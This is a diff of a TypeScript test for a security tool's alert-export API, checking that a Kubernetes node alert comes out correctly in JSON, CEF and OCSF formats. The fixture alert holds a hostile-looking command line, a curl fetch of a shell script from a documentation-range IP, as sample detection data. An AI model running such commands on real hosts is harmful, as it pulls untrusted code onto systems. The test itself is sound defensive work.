@@ -6,7 +6,7 @@ import { type ExportedAlert } from '../../shared/alerts/export/exportedAlert';
 import { OCSF_SCHEMA_VERSION, type OcsfDetectionFinding } from '../../shared/alerts/export/ocsfFormat';
 import { setAlertEventPublisherForTests } from '../../shared/services';
 import { getAlert, replaceAlert, upsertAlerts } from '../../shared/store/alertStore';
-import { variedAlert } from '../support/alertFixtures';
+import { nodeAlert, variedAlert } from '../support/alertFixtures';
 import { ApiHarness, expectInvalidParameter, roleCast, type TestCaller } from '../support/apiHarness';
 import { applyAppSettings } from '../support/appSettings';
 import { RecordingPublisher } from '../support/recordingPublisher';
@@ -339,6 +339,38 @@ describe('GET /api/subscriptions/{subscriptionId}/export/alerts', () => {
       expect(body.value.map((record) => record.class_uid)).toEqual([2004, 2004, 2004]);
       expect(body.value.map((record) => record.finding_info.uid)).toEqual(alerts.map((a) => a.id));
       expect(body.value.map((record) => record.metadata.uid)).toEqual(alerts.map((a) => `${a.id}:${a.version}`));
+    });
+  });
+
+  describe('node alerts', () => {
+    it('when a node alert is exported, then json serves it whole, cef names the node, process and remote end, and ocsf its device and process', async () => {
+      const sub = await freshSubscription();
+      const alert: Alert = {
+        ...nodeAlert({ remote: { address: '198.51.100.7', port: 3333 } }),
+        subscriptionId: sub,
+        lastModifiedUtc: new Date(Date.now() - 60_000).toISOString(),
+        ingestedThrough: { 'node-events/0': 5 },
+      };
+      await upsertAlerts(harness.database, [alert]);
+
+      const { ingestedThrough: _ingestedThrough, ...expected } = alert;
+      expect((await exportJson(sub)).value).toEqual([expected]);
+
+      const cef = await exportPage(sub, { format: 'cef' });
+      const line = (cef.body as string).trimEnd();
+      expect(line).toMatch(/^CEF:0\|Argus\|Argus\|[^|]*\|K8S\.NODE_FixtureActivity\|/);
+      for (const field of ['dvchost=aks-nodepool1-12345678-vmss000000', 'shost=aks-nodepool1-12345678-vmss000000', 'dst=198.51.100.7', 'dpt=3333', 'sproc=/usr/bin/curl', 'spid=4242']) {
+        expect(line).toContain(` ${field} `);
+      }
+      expect(line).toContain(' ArgusArgusCommandLine=/usr/bin/curl -s http://203.0.113.50/x.sh');
+      expect(line).not.toContain(' src=');
+
+      const ocsf = (await exportPage(sub, { format: 'ocsf' })).jsonBody as JsonExport<OcsfDetectionFinding>;
+      expect(ocsf.value[0]?.evidences?.[0]).toMatchObject({
+        device: { hostname: 'aks-nodepool1-12345678-vmss000000' },
+        process: { name: 'curl', pid: 4242, parent_process: { name: 'sh' } },
+        dst_endpoint: { ip: '198.51.100.7', port: 3333 },
+      });
     });
   });
 
